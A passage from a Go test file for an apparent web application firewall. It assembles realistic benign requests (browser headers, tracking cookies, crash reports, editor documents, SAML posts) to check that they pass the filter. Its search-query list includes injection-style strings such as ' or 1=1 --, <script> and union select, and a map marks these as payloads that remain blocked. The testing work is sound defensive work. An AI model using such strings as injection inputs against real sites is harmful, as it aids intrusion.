package filter

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/url"
	"os"
	"testing"
)

// Whole benign requests of the kinds real sites receive, written for this
// table (not taken from any corpus): browsers with their full header sets
// and consent-manager cookies, analytics and crash-report beacons, GraphQL
// clients, rich-text editors, code and SQL saved through editors' APIs,
// identity flows, webhooks, uploads, geospatial and query-string
// languages, compressed and large bodies. None may block at default
// settings.

type realReq struct {
	name   string
	method string
	target string
	ctype  string
	body   string
	hdr    []string
	gzip   bool // send the body gzip-compressed
	// left, when set, says why the request is still blocked: a limit
	// documented in docs/detection.md (code or a payload quoted in free
	// text). Such cases are reported, not asserted.
	left string
}

func (c realReq) build() *http.Request {
	body := c.body
	if c.gzip {
		var b bytes.Buffer
		zw := gzip.NewWriter(&b)
		_, _ = zw.Write([]byte(body))
		_ = zw.Close()
		body = b.String()
	}
	r := newReq(c.method, c.target, c.ctype, body, c.hdr...)
	if c.gzip {
		r.Header.Set("Content-Encoding", "gzip")
	}
	return r
}

// Browser header sets, as the browsers send them for a top-level navigation.
var (
	hdrChrome = []string{
		"User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
		"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
		"Accept-Language", "en-GB,en;q=0.9,de-DE;q=0.8,de;q=0.7,en-US;q=0.6",
		"Accept-Encoding", "gzip, deflate, br, zstd",
		"Sec-Ch-Ua", `"Google Chrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"`,
		"Sec-Ch-Ua-Mobile", "?0",
		"Sec-Ch-Ua-Platform", `"Windows"`,
		"Sec-Ch-Ua-Full-Version-List", `"Google Chrome";v="131.0.6778.86", "Chromium";v="131.0.6778.86", "Not_A Brand";v="24.0.0.0"`,
		"Sec-Ch-Ua-Arch", `"x86"`,
		"Sec-Ch-Ua-Bitness", `"64"`,
		"Sec-Ch-Ua-Model", `""`,
		"Sec-Ch-Ua-Platform-Version", `"15.0.0"`,
		"Sec-Ch-Ua-Wow64", "?0",
		"Sec-Ch-Prefers-Color-Scheme", "dark",
		"Sec-Fetch-Site", "cross-site",
		"Sec-Fetch-Mode", "navigate",
		"Sec-Fetch-User", "?1",
		"Sec-Fetch-Dest", "document",
		"Upgrade-Insecure-Requests", "1",
		"Priority", "u=0, i",
	}
	hdrFirefox = []string{
		"User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
		"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
		"Accept-Language", "fr-FR,fr;q=0.8,en-US;q=0.5,en;q=0.3",
		"Accept-Encoding", "gzip, deflate, br, zstd",
		"DNT", "1",
		"Sec-GPC", "1",
		"Sec-Fetch-Dest", "document",
		"Sec-Fetch-Mode", "navigate",
		"Sec-Fetch-Site", "same-origin",
		"Sec-Fetch-User", "?1",
		"Upgrade-Insecure-Requests", "1",
		"Priority", "u=0, i",
		"TE", "trailers",
	}
	hdrSafari = []string{
		"User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1.1 Mobile/15E148 Safari/604.1",
		"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
		"Accept-Language", "en-US,en;q=0.9",
		"Accept-Encoding", "gzip, deflate, br",
		"Sec-Fetch-Dest", "document",
		"Sec-Fetch-Mode", "navigate",
		"Sec-Fetch-Site", "none",
		"Priority", "u=0, i",
	}
	hdrEdge = []string{
		"User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
		"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
		"Accept-Language", "de,de-DE;q=0.9,en;q=0.8,en-GB;q=0.7,en-US;q=0.6",
		"Sec-Ch-Ua", `"Microsoft Edge";v="131", "Chromium";v="131", "Not_A Brand";v="24"`,
		"Sec-Ch-Ua-Mobile", "?0",
		"Sec-Ch-Ua-Platform", `"Windows"`,
		"Sec-Fetch-Site", "same-origin",
		"Sec-Fetch-Mode", "cors",
		"Sec-Fetch-Dest", "empty",
	}
	hdrXHR = []string{
		"User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
		"Accept", "application/json, text/plain, */*",
		"Origin", "https://app.example.com",
		"Referer", "https://app.example.com/dashboard/reports?range=last_7_days",
		"Sec-Fetch-Site", "same-origin",
		"Sec-Fetch-Mode", "cors",
		"Sec-Fetch-Dest", "empty",
		"X-Requested-With", "XMLHttpRequest",
	}
	hdrMobile = []string{
		"User-Agent", "MyShop/5.12.0 (com.example.shop; build:5120; iOS 18.1.1) Alamofire/5.9.1",
		"Accept", "application/json",
		"Accept-Language", "en-US;q=1.0, es-US;q=0.9",
		"X-App-Version", "5.12.0 (5120)",
		"X-Device-Id", "3F2504E0-4F89-11D3-9A0C-0305E82C3301",
	}
)

// with appends pairs to a header set (a fresh slice each time).
func with(base []string, kv ...string) []string {
	out := make([]string, 0, len(base)+len(kv))
	out = append(out, base...)
	return append(out, kv...)
}

// Cookies of analytics and consent managers, and of the common frameworks.
var realCookies = []string{
	`_ga=GA1.1.1234567890.1733212800; _ga_X1Y2Z3W4V5=GS1.1.1733212800.3.1.1733213100.0.0.0; _gid=GA1.2.987654321.1733212800; _gcl_au=1.1.1946381012.1733212800; _fbp=fb.1.1733212800123.1234567890; _ttp=2pBQ4ZfXqVx3Wm1KJ8sLhN0rT5a; _pin_unauth=dWlkPU5qRTNaVEF6TkRNdE9EQmlZeTAwTnpneExXRTFOVEl0TjJZNVpqTXpPVEF4TURrdw`,
	`OptanonAlertBoxClosed=2026-12-03T09:00:00.000Z; OptanonConsent=isGpcEnabled=0&datestamp=Thu+Dec+03+2026+10%3A00%3A00+GMT%2B0100+(Central+European+Standard+Time)&version=202409.1.0&browserGpcFlag=0&isIABGlobal=false&hosts=&consentId=5c0f1a8e-6f1e-4a7b-9f54-1d2c3b4a5e6f&interactionCount=1&isAnonUser=1&landingPath=NotLandingPage&groups=C0001%3A1%2CC0002%3A1%2CC0003%3A1%2CC0004%3A0&geolocation=DE%3BBE&AwaitingReconsent=false`,
	`CookieConsent={stamp:%27-1%27%2Cnecessary:true%2Cpreferences:true%2Cstatistics:true%2Cmarketing:false%2Cmethod:%27explicit%27%2Cver:1%2Cutc:1733212800000%2Cregion:%27de%27}; euconsent-v2=CQIv2gAQIv2gAAcABBENBSFsAP_gAEPgAAqIKdNV_G__bWlr8X73aftkeY1P9_h77sQxBhfJE-4FzLvW_JwXx2ExNA36tqIKmRIAu3bBIQNlGJDUTVCgaogVryDMaEyUoTNKJ6BkiFMRM2dYCF5vm4tj-QKY5vr991dx2B-t7dr83dzyz4VHn3a5_2a0WJCdA5-tDfv9bROb-9IOd_x8v4v8_F_rE2_eT1l_tevp7D9-cts7_XW-9_fff79Ll_-mBwRCQEQYCmAICFCxAwiBVAAAABAAAAAAAAIhAAoAAAAAAAAAAAAAAAAAA.IKdNV_G__bXlv-X736ftkeY1f9_h77sQxBhfJs-4FzLvW_JwX32EzNE36tqYKmRIEu3bBIQFtHJnUTVihaogVrzHsak2coTtKJ-BkiHMRe2dYCF5vmwtj-QKZ5vr_93d52R_t_dr-3dzyz5Vnv3a9_-b1WJidK5-tH_v_bROb-_I-9_x-_4v4_N_pE2_eT1t_tWvt739-8tv_9__99____7_f__3_____3_________8UBgARGCmgCEiAFIADAAgAAIAQIAAAAAAEAEgAAgAACAAAAAAIAQgEAAAAAAAAAAAAAAAAAAAAAAAA; _hjSessionUser_3512874=eyJpZCI6ImEzZjFjZWM2LTNjZjQtNWMyMS05YmNhLTA1YTljMzIxZWY3YiIsImNyZWF0ZWQiOjE3MzMyMTI4MDAwMDAsImV4aXN0aW5nIjp0cnVlfQ==; _hjSession_3512874=eyJpZCI6IjhlNTQ3YjQxLTVjOTMtNDA5ZC1hYmE2LTgzNzIxNjQ2ZTRjNyIsImMiOjE3MzMyMTI4MDAwMDAsInMiOjAsInIiOjAsInNiIjowLCJzciI6MCwic2UiOjAsImZzIjoxLCJzcCI6MH0=`,
	`ajs_user_id=%22u_48213%22; ajs_anonymous_id=%22c0a8012e-7b3f-4d2a-9f1e-5e6d7c8b9a0f%22; mp_4f2a9c1e7b3d5a6f8e0c1d2b3a4f5e6d_mixpanel=%7B%22distinct_id%22%3A%20%22u_48213%22%2C%22%24device_id%22%3A%20%22193a1b2c3d4e5f-0a1b2c3d4e5f6-26011851-1fa400-193a1b2c3d4e5f%22%2C%22%24initial_referrer%22%3A%20%22https%3A%2F%2Fwww.google.com%2F%22%2C%22%24initial_referring_domain%22%3A%20%22www.google.com%22%2C%22%24user_id%22%3A%20%22u_48213%22%7D; amp_6e403e=c0a8012e-7b3f-4d2a-9f1e-5e6d7c8b9a0f...1ieb8h2k3.1ieb8h9q1.5.2.7; _clck=1x2y3z4%7C2%7Cfrg%7C0%7C1799; _clsk=1abcd2e%7C1733213100123%7C3%7C1%7Cl.clarity.ms%2Fcollect; _uetsid=1a2b3c40b14f11efa5b1a9c2f3e4d5c6; _uetvid=1a2b5f10b14f11ef8d3c1f2e3d4c5b6a`,
	`AMCVS_1B3AA45570643167000A4C1F%40AdobeOrg=1; AMCV_1B3AA45570643167000A4C1F%40AdobeOrg=179643557%7CMCIDTS%7C20061%7CMCMID%7C12345678901234567890123456789012345678%7CMCAAMLH-1733817600%7C6%7CMCAAMB-1733817600%7CRKhpRz8krg2tLO6pguXWp5olkAcUniQYPHaMWWgdJ3xzPWQmdj0y%7CMCOPTOUT-1733220000s%7CNONE%7CvVersion%7C5.5.0; s_cc=true; s_sq=%5B%5BB%5D%5D; s_ppv=product%2520detail%2C100%2C45%2C2345%2C1%2C3; s_plt=1.23; s_pltp=product%20detail; __hstc=123456789.abcdef0123456789abcdef0123456789.1733212800000.1733212800000.1733212800000.1; hubspotutk=abcdef0123456789abcdef0123456789; __hssrc=1; __hssc=123456789.1.1733212800000`,
	`wordpress_logged_in_5d41402abc4b2a76b9719d911017c592=editor%7C1733385600%7CAbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefg%7C0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef; wp-settings-1=libraryContent%3Dbrowse%26editor%3Dtinymce%26hidetb%3D1%26posts_list_mode%3Dlist%26mfold%3Do; wp-settings-time-1=1733212800; wordpress_test_cookie=WP%20Cookie%20check`,
	`mage-cache-storage=%7B%7D; mage-cache-storage-section-invalidation=%7B%7D; mage-messages=; form_key=Ab3dEf6hIj9kLm2n; section_data_ids=%7B%22cart%22%3A1733212800%2C%22customer%22%3A1733212800%2C%22compare-products%22%3A1733212800%2C%22last-ordered-items%22%3A1733212800%2C%22directory-data%22%3A1733212800%2C%22captcha%22%3A1733212800%7D; recently_viewed_product=%7B%7D; recently_compared_product=%7B%7D; product_data_storage=%7B%7D; private_content_version=0123456789abcdef0123456789abcdef; X-Magento-Vary=0123456789abcdef0123456789abcdef01234567`,
	`XSRF-TOKEN=eyJpdiI6IlBxWlRnN3NjK1ZjR2ZqK2ZJbXc9PSIsInZhbHVlIjoiNVd0aGNrdWJ4T3F1K2ZaSmR0bE9xbkxtTjJyUVZ0bVhkNnRqN3dPeWpHMEZIWnd2UHFqZz09IiwibWFjIjoiYWJjZGVmMDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWYwMTIzNDU2Nzg5YWJjZGVmMDEyMyIsInRhZyI6IiJ9; laravel_session=eyJpdiI6IkhHWk1uSE1vMVJQQ2ZyRWQ0Y3g1a2c9PSIsInZhbHVlIjoiYmRqT1d1R2lzVGpWdXRBPT0iLCJtYWMiOiIwMTIzIiwidGFnIjoiIn0%3D; JSESSIONID=node01abcdefghij1234567890.node0; AWSALB=Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4zAb3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z; AWSALBCORS=Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z; __cf_bm=Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z.Ab3dEf-1733212800-1.0.1.1-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789_abcdefghij; cf_clearance=Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z-1733212800-1.2.1.1-AbCdEf.GhIjKl_MnOpQr`,
	`_shopify_y=0a1b2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d; _shopify_s=5d4c3b2a-1f0e-9d8c-7b6a-5f4e3d2c1b0a; cart=Z2NwLWV1cm9wZS13ZXN0MzowMUpFMlpWNFpGTkdHVzBBOVM1SkZBMlhNRg%3Fkey%3Dabcdef0123456789; cart_sig=abcdef0123456789abcdef0123456789; _tracking_consent=%7B%22con%22%3A%7B%22CMP%22%3A%7B%22a%22%3A%22%22%2C%22m%22%3A%22%22%2C%22p%22%3A%22%22%2C%22s%22%3A%22%22%7D%7D%2C%22v%22%3A%222.1%22%2C%22region%22%3A%22DEBE%22%2C%22reg%22%3A%22%22%2C%22purposes%22%3A%7B%22a%22%3Atrue%2C%22p%22%3Atrue%2C%22m%22%3Atrue%2C%22t%22%3Atrue%7D%2C%22display_banner%22%3Afalse%2C%22sale_of_data_region%22%3Afalse%2C%22consent_id%22%3A%22ABCDEF01-2345-6789-ABCD-EF0123456789%22%7D; localization=DE; _dd_s=rum=2&id=0a1b2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d&created=1733212800000&expire=1733214600000; intercom-device-id-abcd1234=0a1b2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d; intercom-session-abcd1234=`,
	`bcookie="v=2&0a1b2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d"; lang=v=2&lang=en-us; li_gc=MTswOzE3MzMyMTI4MDA7MjswMjFhYmNkZWYwMTIzNDU2Nzg5; lidc="b=VB12:s=V:r=V:a=V:p=V:g=3456:u=1:x=1:i=1733212800:t=1733299200:v=2:sig=AQFabcdef0123"; UserMatchHistory=AQIabcdef0123456789; AnalyticsSyncHistory=AQJabcdef0123456789; li_sugr=0a1b2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d`,
	`_octo=GH1.1.1234567890.1733212800; logged_in=yes; dotcom_user=octocat; color_mode=%7B%22color_mode%22%3A%22auto%22%2C%22light_theme%22%3A%7B%22name%22%3A%22light%22%2C%22color_mode%22%3A%22light%22%7D%2C%22dark_theme%22%3A%7B%22name%22%3A%22dark_dimmed%22%2C%22color_mode%22%3A%22dark%22%7D%7D; preferred_color_mode=dark; tz=Europe%2FBerlin; cpu_bucket=xlg`,
	`consentUUID=0a1b2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d_38; consentDate=2026-12-03T09:00:00.000Z; usnatUUID=0a1b2c3d; didomi_token=eyJ1c2VyX2lkIjoiMTkzYTFiMmMtM2Q0ZS01ZjZhLTdiOGMtOWQwZTFmMmEzYjRjIiwiY3JlYXRlZCI6IjIwMjYtMTItMDNUMDk6MDA6MDAuMDAwWiIsInVwZGF0ZWQiOiIyMDI2LTEyLTAzVDA5OjAwOjAwLjAwMFoiLCJ2ZW5kb3JzIjp7ImVuYWJsZWQiOlsiZ29vZ2xlIiwiYzpnb29nbGVhbmEtNFRYbkppZ1IiXX0sInB1cnBvc2VzIjp7ImVuYWJsZWQiOlsiYW5hbHl0aWNzIl19LCJ2ZXJzaW9uIjoyfQ==; euconsent=BO_abcdefghijklmnopqrstuvwxyzAB; __utma=123456789.987654321.1733212800.1733212800.1733212800.1; __utmz=123456789.1733212800.1.1.utmcsr=google|utmccn=(organic)|utmcmd=organic|utmctr=(not%20provided)`,
}

// Search queries people type, about code and security too.
var realSearches = []string{
	"how to select all rows in sql where date is null",
	"sql injection prevention prepared statements php",
	"what does ' or 1=1 -- mean",
	"html <div> vs <span> difference",
	"bash for loop over files in directory",
	"rm -rf node_modules windows",
	"git reset --hard origin/main",
	"drop table if exists postgres",
	"union select vs join performance",
	"python os.system vs subprocess.run",
	"how to escape & in xml",
	"javascript onclick not working on button",
	"<script> tag async vs defer",
	"cat /etc/os-release output meaning",
	"docker run -it --rm ubuntu bash",
	"curl -X POST json example",
	"c++ vector<int> sort descending",
	"c# linq where select",
	"50% off summer dresses",
	"women's size 10 jeans",
	"rock 'n' roll hall of fame",
	"echo $PATH mac",
	"../ in file path meaning",
	"what is a null byte %00",
	"sudo apt-get install nginx",
	"iframe youtube embed responsive",
	"document.getElementById is not a function",
	"<img> alt text best practices",
	"xss attack example for beginners",
	"${variable} in bash string",
	"{{ }} in angular templates",
	"chmod 755 vs 644",
	"select * from table order by 1 desc",
	"ls -la | grep .env",
	"powershell get-childitem recurse",
	"insert into select from another table mysql",
	"\"union station\" parking",
	"O'Reilly Learning SQL 3rd edition",
	"mother's day gift ideas < $50",
	"1/2\" copper pipe fittings",
}

// payloadSearches are searches that are attacks word for word (a
// tutorial's example typed into a search box); they stay blocked.
var payloadSearches = map[string]bool{
	"what does ' or 1=1 -- mean":         true,
	"<script> tag async vs defer":        true,
	"union select vs join performance":   true,
	"cat /etc/os-release output meaning": true,
}

// sentryEnvelope is a crash report as the browser SDK posts it.
func sentryEnvelope() string {
	ev := map[string]any{
		"event_id": "9ec79c33ec9942ab8353589fcb2e04dc", "platform": "javascript", "level": "error",
		"timestamp": 1733212800.123, "environment": "production", "release": "web@2.31.0",
		"exception": map[string]any{"values": []any{map[string]any{
			"type": "TypeError", "value": "Cannot read properties of undefined (reading 'map')",
			"stacktrace": map[string]any{"frames": []any{
				map[string]any{"filename": "https://app.example.com/static/js/main.3f2a9c.js", "function": "renderList", "lineno": 2, "colno": 48211, "in_app": true},
				map[string]any{"filename": "https://app.example.com/static/js/vendor.js", "function": "HTMLButtonElement.<anonymous>", "lineno": 1, "colno": 1234},
			}},
			"mechanism": map[string]any{"type": "onerror", "handled": false},
		}}},
		"breadcrumbs": []any{
			map[string]any{"category": "ui.click", "message": "body > div#root > main > button.btn.btn-primary[type=\"submit\"]", "timestamp": 1733212799.5},
			map[string]any{"category": "xhr", "data": map[string]any{"method": "GET", "url": "/api/search?q=select%20*%20from&limit=20", "status_code": 200}, "type": "http"},
			map[string]any{"category": "navigation", "data": map[string]any{"from": "/products?sort=price&order=desc", "to": "/products/42"}},
			map[string]any{"category": "console", "level": "warn", "message": "Warning: Each child in a list should have a unique \"key\" prop.\n\nCheck the render method of `List`."},
		},
		"request": map[string]any{"url": "https://app.example.com/products/42?ref=home", "headers": map[string]string{"Referer": "https://www.google.com/", "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"}},
		"sdk":     map[string]any{"name": "sentry.javascript.react", "version": "8.42.0"},
		"user":    map[string]any{"ip_address": "{{auto}}", "id": "48213"},
	}
	b, _ := json.Marshal(ev)
	return `{"event_id":"9ec79c33ec9942ab8353589fcb2e04dc","sent_at":"2026-12-03T09:00:00.456Z","sdk":{"name":"sentry.javascript.react","version":"8.42.0"},"trace":{"environment":"production","release":"web@2.31.0","public_key":"0123456789abcdef0123456789abcdef","trace_id":"0123456789abcdef0123456789abcdef","sample_rate":"1","transaction":"/products/:id","sampled":"true"}}` + "\n" +
		`{"type":"event"}` + "\n" + string(b) + "\n"
}

// quillDelta is a Quill editor document.
const quillDelta = `{"ops":[{"insert":"Release notes"},{"attributes":{"header":2},"insert":"\n"},{"insert":"We fixed the bug where "},{"attributes":{"code":true},"insert":"SELECT * FROM orders WHERE id = ?"},{"insert":" returned nothing when the id had a leading zero. Run "},{"attributes":{"code":true},"insert":"npm run migrate -- --force"},{"insert":" after upgrading.\n"},{"attributes":{"link":"https://docs.example.com/upgrade?from=2.3&to=2.4"},"insert":"Upgrade guide"},{"insert":"\n"},{"insert":{"image":"https://cdn.example.com/img/release-2.4.png"}},{"insert":"\nDon't forget: it's O'Neil's team that owns the 'billing' & 'invoices' modules.\n"},{"attributes":{"list":"bullet"},"insert":"\n"}]}`

// proseMirrorDoc is a ProseMirror/Tiptap document with a code block.
const proseMirrorDoc = `{"type":"doc","content":[{"type":"heading","attrs":{"level":2},"content":[{"type":"text","text":"Reset a user's password"}]},{"type":"paragraph","content":[{"type":"text","text":"Run this in the admin console, then tell them to log in again:"}]},{"type":"codeBlock","attrs":{"language":"sql"},"content":[{"type":"text","text":"UPDATE users SET password_hash = NULL, must_reset = true WHERE email = 'jane.doe@example.com';"}]},{"type":"paragraph","content":[{"type":"text","text":"See "},{"type":"text","marks":[{"type":"link","attrs":{"href":"https://wiki.example.com/ops/passwords","target":"_blank","rel":"noopener noreferrer nofollow","class":null}}],"text":"the runbook"},{"type":"text","text":" or ping "},{"type":"mention","attrs":{"id":"u_12","label":"ops-oncall"}}]}]}`

// ckeditorHTML is a page body saved by CKEditor 5 / TinyMCE.
const ckeditorHTML = `<h2 style="text-align:center;"><span style="color:hsl(210,75%,60%);font-family:'Trebuchet MS', Helvetica, sans-serif;">Winter sale</span></h2><p>Up to <strong>50% off</strong> &amp; free shipping on orders over $49. <a href="https://shop.example.com/sale?utm_source=newsletter&amp;utm_medium=email" target="_blank" rel="noopener noreferrer">Shop now</a></p><figure class="table"><table style="border-collapse:collapse;width:100%;" border="1"><thead><tr><th>Size</th><th>Chest (in)</th></tr></thead><tbody><tr><td>S</td><td>34–36</td></tr><tr><td>M</td><td>38–40</td></tr></tbody></table></figure><figure class="media"><oembed url="https://www.youtube.com/watch?v=dQw4w9WgXcQ"></oembed></figure><figure class="image image-style-side"><img src="https://cdn.example.com/uploads/coat.jpg" alt="Men's wool coat" width="600" height="400" srcset="https://cdn.example.com/uploads/coat-300.jpg 300w, https://cdn.example.com/uploads/coat.jpg 600w" sizes="100vw"><figcaption>Our best-seller, now 30% off</figcaption></figure><blockquote><p>"Best coat I've owned" – Mike, Leeds</p></blockquote><ul><li>Code <code>WINTER24</code> at checkout</li><li>Ends Sunday 11:59 p.m.</li></ul>`

// outlookHTML is an HTML mail as a webmail client posts it.
const outlookHTML = `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="Generator" content="Microsoft Word 15 (filtered medium)"><style><!--
/* Font Definitions */
@font-face {font-family:"Cambria Math"; panose-1:2 4 5 3 5 4 6 3 2 4;}
p.MsoNormal, li.MsoNormal, div.MsoNormal {margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;}
a:link, span.MsoHyperlink {mso-style-priority:99; color:#0563C1; text-decoration:underline;}
--></style><!--[if gte mso 9]><xml>
<o:shapedefaults v:ext="edit" spidmax="1026" />
</xml><![endif]--></head><body lang="EN-GB" link="#0563C1" vlink="#954F72" style="word-wrap:break-word"><div class="WordSection1"><p class="MsoNormal">Hi Sam,<o:p></o:p></p><p class="MsoNormal">Please find the Q3 figures attached. I've run the report with <b>region = 'EMEA' and status = 'closed'</b> as you asked.<o:p></o:p></p><p class="MsoNormal"><img width="120" height="40" style="width:1.25in;height:.4166in" id="Picture_x0020_1" src="cid:image001.png@01DB4512.3F2A9C10" alt="Example Ltd"><o:p></o:p></p><p class="MsoNormal">Kind regards,<br>Chris O'Donnell | Finance<o:p></o:p></p></div></body></html>`

// samlResponse is a signed SAML 2.0 response as an IdP posts it.
func samlResponse() string {
	x := `<?xml version="1.0" encoding="UTF-8"?><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_8e8dc5f69a98cc4c1ff3427e5ce34606fd672f91e6" Version="2.0" IssueInstant="2026-12-03T09:00:00Z" Destination="https://app.example.com/saml/acs" InResponseTo="ONELOGIN_4fee3b046395c4e751011e97f8900b5273d56685"><saml:Issuer>https://idp.example.org/metadata</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status><saml:Assertion xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xs="http://www.w3.org/2001/XMLSchema" ID="_d71a3a8e9fcc45c9e9d248ef7049393fc8f04e5f75" Version="2.0" IssueInstant="2026-12-03T09:00:00Z"><saml:Issuer>https://idp.example.org/metadata</saml:Issuer><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/><ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/><ds:Reference URI="#_d71a3a8e9fcc45c9e9d248ef7049393fc8f04e5f75"><ds:Transforms><ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></ds:Transforms><ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>Y2hhbmdlbWVjaGFuZ2VtZWNoYW5nZW1lY2hhbmdlbWU=</ds:DigestValue></ds:Reference></ds:SignedInfo><ds:SignatureValue>TWFueSBoYW5kcyBtYWtlIGxpZ2h0IHdvcmsuTWFueSBoYW5kcyBtYWtlIGxpZ2h0IHdvcmsu</ds:SignatureValue></ds:Signature><saml:Subject><saml:NameID SPNameQualifier="https://app.example.com/saml/metadata" Format="urn:oasis:names:tc:SAML:2.0:nameid-format:transient">_ce3d2948b4cf20146dee0a0b3dd6f69b6cf86f62d7</saml:NameID><saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData NotOnOrAfter="2026-12-03T09:05:00Z" Recipient="https://app.example.com/saml/acs" InResponseTo="ONELOGIN_4fee3b046395c4e751011e97f8900b5273d56685"/></saml:SubjectConfirmation></saml:Subject><saml:Conditions NotBefore="2026-12-03T08:59:30Z" NotOnOrAfter="2026-12-03T09:05:00Z"><saml:AudienceRestriction><saml:Audience>https://app.example.com/saml/metadata</saml:Audience></saml:AudienceRestriction></saml:Conditions><saml:AuthnStatement AuthnInstant="2026-12-03T09:00:00Z" SessionIndex="_be9967abd904ddcae3c0eb4189adbe3f71e327cf93"><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement><saml:AttributeStatement><saml:Attribute Name="mail" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic"><saml:AttributeValue xsi:type="xs:string">dana.o'hara@example.org</saml:AttributeValue></saml:Attribute><saml:Attribute Name="memberOf"><saml:AttributeValue xsi:type="xs:string">cn=admins,ou=groups,dc=example,dc=org</saml:AttributeValue></saml:Attribute></saml:AttributeStatement></saml:Assertion></samlp:Response>`
	return url.Values{"SAMLResponse": {base64.StdEncoding.EncodeToString([]byte(x))}, "RelayState": {"https://app.example.com/reports?tab=q3&sort=-revenue"}}.Encode()
}

// multipartOf builds a multipart body from fields and (name, file name,
// type, content) files.
func multipartOf(fields [][2]string, files [][4]string) (string, string) {
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	for _, f := range fields {
		_ = mw.WriteField(f[0], f[1])
	}
	for _, f := range files {
		h := make(map[string][]string)
		h["Content-Disposition"] = []string{fmt.Sprintf(`form-data; name="%s"; filename="%s"`, f[0], f[1])}
		h["Content-Type"] = []string{f[2]}
		w, _ := mw.CreatePart(h)
		_, _ = w.Write([]byte(f[3]))
	}
	_ = mw.Close()
	return b.String(), mw.FormDataContentType()
}

func jsonOf(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}

func realisticBenign() []realReq {
	var out []realReq
	add := func(c realReq) { out = append(out, c) }

	// Browsers: landing from a search engine, and internal searches whose
	// Referer carries the previous query.
	browsers := map[string][]string{"chrome": hdrChrome, "firefox": hdrFirefox, "safari": hdrSafari, "edge": hdrEdge}
	bi := 0
	for _, bname := range []string{"chrome", "firefox", "safari", "edge"} {
		for i, q := range realSearches {
			if i%4 != bi {
				continue
			}
			left := ""
			if payloadSearches[q] {
				left = "the query is an attack payload quoted as a search"
			}
			ref := realSearches[(i+7)%len(realSearches)]
			for payloadSearches[ref] {
				ref = realSearches[(i+len(ref))%len(realSearches)]
			}
			ck := realCookies[(i+bi)%len(realCookies)]
			add(realReq{name: bname + " search " + q, method: "GET", target: "https://docs.example.com/search?q=" + url.QueryEscape(q) + "&page=1", left: left,
				hdr: with(browsers[bname], "Cookie", ck, "Referer", "https://docs.example.com/search?q="+url.QueryEscape(ref))})
			add(realReq{name: bname + " landing " + q, method: "GET", target: "https://shop.example.com/products/winter-coat?utm_source=google&utm_medium=cpc&utm_campaign=" + url.QueryEscape("winter sale '24") + "&gclid=Cj0KCQiA_abcDEF-123_xyz&msclkid=0a1b2c3d4e5f", left: left,
				hdr: with(browsers[bname], "Cookie", realCookies[(i+3)%len(realCookies)], "Referer", "https://www.bing.com/search?q="+url.QueryEscape(q)+"&form=QBLH&sp=-1&pq="+url.QueryEscape(q[:len(q)/2]))})
		}
		bi++
	}
